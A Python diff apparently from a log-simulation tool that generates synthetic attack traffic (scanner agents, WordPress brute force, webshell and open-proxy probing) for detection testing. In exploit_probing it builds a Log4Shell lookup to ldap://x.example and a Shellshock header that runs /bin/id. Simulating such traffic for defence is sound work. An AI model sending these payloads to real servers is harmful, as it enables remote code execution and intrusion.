@@ -172,20 +172,100 @@ def path_traversal(kit: AttackKit, start_ms: int):
                         ("/downloads?file=", "/static?path=", "/api/export?template="))
 
 
+SCANNER_AGENTS = (
+    "sqlmap/1.7.12#stable (https://sqlmap.org)",
+    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
+    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+    "Mozilla/5.0 (Windows NT 10.0) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
+    "Mozilla/5.0 zgrab/0.x",
+    "Mozilla/5.0 (Windows NT 6.1) Acunetix-Product/14.0",
+    "Fuzz Faster U Fool v2.1.0-dev",
+    "gobuster/3.6",
+)
+# SEO crawlers and scrapers as they appear in real logs: unwanted, but not attacks.
+CRAWLER_AGENTS = (
+    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
+    "Mozilla/5.0 (compatible; Exabot/3.0; +http://www.exabot.com/go/robot)",
+    "Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)",
+    "Mozilla/5.0 (compatible; BLEXBot/1.0; +http://webmeup-crawler.com/)",
+    "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) 360Spider",
+    "Mozilla/5.0 (compatible; MegaIndex.ru/2.0; +http://megaindex.com/crawler)",
+    "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
+)
+
+
 def bad_user_agent(kit: AttackKit, start_ms: int):
-    """A scanner that announces itself in the User-Agent: sqlmap, Nikto, Nmap, masscan …"""
-    ip = kit.attacker_ip()
-    tool = kit.rng.choice(("Sqlmap", "Nikto", "Nmap", "masscan", "Nuclei", "WPScan", "zgrab", "Acunetix"))
-    agent = {"Sqlmap": "sqlmap/1.7.12#stable (https://sqlmap.org)",
-             "Nikto": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
-             "Nmap": "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
-             "masscan": "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
-             "Nuclei": "Mozilla/5.0 (Windows NT 10.0) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
-             "WPScan": "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
-             "zgrab": "Mozilla/5.0 zgrab/0.x",
-             "Acunetix": "Mozilla/5.0 (Windows NT 6.1) Acunetix-Product/14.0"}[tool]
+    """An SEO crawler or scraper of the bad agent list (MJ12bot, Exabot, 360Spider …) browsing the site."""
+    ip, agent = kit.attacker_ip(), kit.rng.choice(CRAWLER_AGENTS)
     return [kit.event(ts, ip, agent, kit.page(), "GET", kit.rng.choice((200, 200, 200, 304)), "view_page", LOW)
             for ts in kit.gaps(start_ms, kit.rng.randrange(10, 40), 300, 3000)], None
+
+
+def scanner_user_agent(kit: AttackKit, start_ms: int):
+    """A security scanner that announces itself in the User-Agent: sqlmap, Nikto, Nmap, masscan …"""
+    ip, agent = kit.attacker_ip(), kit.rng.choice(SCANNER_AGENTS)
+    return [kit.event(ts, ip, agent, kit.page(), "GET", kit.rng.choice((200, 200, 200, 304, 404)), "view_page", LOW)
+            for ts in kit.gaps(start_ms, kit.rng.randrange(10, 40), 300, 3000)], None
+
+
+def wordpress_brute_force(kit: AttackKit, start_ms: int):
+    """Password guessing as real logs show it: POST /wp-login.php (or xmlrpc.php) answered 200, no user name."""
+    ip, agent = kit.attacker_ip(), kit.rng.choice(SCRIPT_AGENTS + (kit.browser(),))
+    endpoint = kit.rng.choice(("/wp-login.php", "/wp-login.php", "/xmlrpc.php"))
+    return [kit.event(ts, ip, agent, endpoint, "POST", 200, "login", HIGH, median_ms=300)
+            for ts in kit.gaps(start_ms, kit.rng.randrange(40, 120), 400, 2500)], None
+
+
+def webshell_probing(kit: AttackKit, start_ms: int):
+    """Requests for webshells someone else may have planted: /s72_Shell.php, /wp-content/uploads/c99.php …"""
+    ip, agent = kit.attacker_ip(), kit.rng.choice(SCRIPT_AGENTS)
+    shells = kit.rng.sample(patterns.load("backdoors"), kit.rng.randrange(5, 30))
+    folders = ("/", "/wp-content/uploads/", "/images/", "/wp-includes/", "/uploads/")
+    return [kit.event(ts, ip, agent, kit.rng.choice(folders) + shell.replace(" ", "%20"), "GET",
+                      404 if kit.rng.random() < 0.9 else 403, "view_page", LOW)
+            for ts, shell in zip(kit.gaps(start_ms, len(shells), 200, 2500), shells)], None
+
+
+def exploit_probing(kit: AttackKit, start_ms: int):
+    """A few requests carrying known exploits: Log4Shell, Apache traversal, Spring4Shell, PHPUnit …"""
+    ip, agent = kit.attacker_ip(), kit.rng.choice(SCRIPT_AGENTS)
+    events = []
+    for ts in kit.gaps(start_ms, kit.rng.randrange(1, 6), 500, 5000):
+        signature = kit.rng.choice(patterns.load("exploit_signatures"))
+        url, request_agent = signature, agent
+        if signature.startswith(("${", "() {")):  # header injections: Log4Shell, Shellshock
+            url, request_agent = "/", signature + ("ldap://x.example/a}" if signature.startswith("$") else " :; }; /bin/id")
+        elif not signature.startswith("/"):
+            url = "/index.php?q=" + signature.replace("#", "%23").replace(" ", "%20")
+        events.append(kit.event(ts, ip, request_agent, url, "GET", kit.rng.choice((400, 404, 404, 500)), "view_page", LOW))
+    return events, None
+
+
+def aggressive_crawling(kit: AttackKit, start_ms: int):
+    """A scraper behind a browser's agent fetching pages, not assets, a few a second."""
+    ip, agent = kit.attacker_ip(), kit.browser()
+    count = kit.rng.randrange(150, 400)
+    return [kit.event(ts, ip, agent, kit.page(), "GET", 200, "view_page", LOW)
+            for ts in kit.gaps(start_ms, count, 150, 450)], None
+
+
+def open_proxy_probing(kit: AttackKit, start_ms: int):
+    """Asking the server to relay: absolute-URL requests and CONNECT to other hosts."""
+    ip, agent = kit.attacker_ip(), kit.rng.choice(SCRIPT_AGENTS)
+    targets = (("GET", "http://www.google.com/"), ("GET", "http://azenv.net/"), ("CONNECT", "www.google.com:443"),
+               ("GET", "http://ip-api.com/json"), ("CONNECT", "api.ipify.org:443"), ("HEAD", "http://example.com/"))
+    chosen = kit.rng.sample(targets, kit.rng.randrange(1, 4))
+    return [kit.event(ts, ip, agent, url, method, kit.rng.choice((400, 404, 405)), "view_page", LOW)
+            for ts, (method, url) in zip(kit.gaps(start_ms, len(chosen), 500, 4000), chosen)], None
+
+
+def w00tw00t(kit: AttackKit, start_ms: int):
+    """The DFind/ZmEu fingerprint request."""
+    ip = kit.attacker_ip()
+    return [kit.event(start_ms, ip, None, "/w00tw00t.at.ISC.SANS.DFind:)", "GET", 400, "view_page", LOW)], None
 
 
 def request_flood(kit: AttackKit, start_ms: int):
@@ -213,7 +293,8 @@ def switching_user_agents(kit: AttackKit, start_ms: int):
 
 SCENARIOS: dict[str, Callable] = {fn.__name__: fn for fn in (
     brute_force, credential_stuffing, account_takeover, path_probing, sensitive_files, sqli_probing,
-    xss_probing, path_traversal, bad_user_agent, request_flood, switching_user_agents,
+    xss_probing, path_traversal, bad_user_agent, request_flood, switching_user_agents, scanner_user_agent,
+    wordpress_brute_force, webshell_probing, exploit_probing, aggressive_crawling, open_proxy_probing, w00tw00t,
 )}
 
 
